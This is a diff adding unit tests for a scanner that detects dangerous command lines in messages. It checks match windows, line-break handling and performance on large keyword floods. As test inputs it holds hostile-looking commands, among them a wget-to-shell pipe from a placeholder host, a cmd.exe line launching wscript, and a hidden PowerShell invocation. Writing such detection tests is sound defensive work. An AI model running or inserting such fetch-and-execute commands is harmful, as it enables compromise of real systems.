@@ -84,4 +84,26 @@ class NameAndTextTest {
         assertThat(scan(message("Our PowerShell training covers certutil basics and how mshta works. "
                 + "Use curl to test the API.", ""))).isEmpty();
     }
+
+    @Test
+    void aCommandIsFoundWhereverItsDangerousPartStandsAndOnlyThere() {
+        // at the edge of the window: 190 characters between keyword and indicator still count, a line break does not
+        assertThat(rules(scan(message("powershell " + "x".repeat(190) + " -w hidden", "")))).contains("command-line");
+        assertThat(rules(scan(message("powershell " + "x".repeat(300) + " -w hidden", "")))).doesNotContain("command-line");
+        assertThat(rules(scan(message("powershell\n -w hidden", "")))).doesNotContain("command-line");
+        assertThat(rules(scan(message("iex first, then powershell", "")))).doesNotContain("command-line");
+        assertThat(rules(scan(message("cmd.exe    /c start wscript evil.js", "")))).contains("command-line");
+        assertThat(rules(scan(message("wget -qO- https://x.example/i | sh", "")))).contains("command-line");
+        assertThat(rules(scan(message("wget https://x.example/i\n| sh", "")))).doesNotContain("command-line");
+    }
+
+    @Test
+    void aTextFullOfKeywordsHidesNoRealCommandAfterIt() {
+        // sixth audit: 1 MB of "powershell " took 2.4 s, a 200-character lazy scan at every keyword
+        // (measured, not asserted: the whole scan of 2 MB of "powershell " 2.0 s before, 0.9 s after; README)
+        String flood = "powershell ".repeat(190_000); // 2 MB, max.text.scan
+        assertThat(rules(scan(message(flood, "")))).doesNotContain("command-line");
+        assertThat(rules(scan(message(flood.substring(0, 500_000) + "\npowershell -w hidden -c x", ""))))
+                .contains("command-line");
+    }
 }
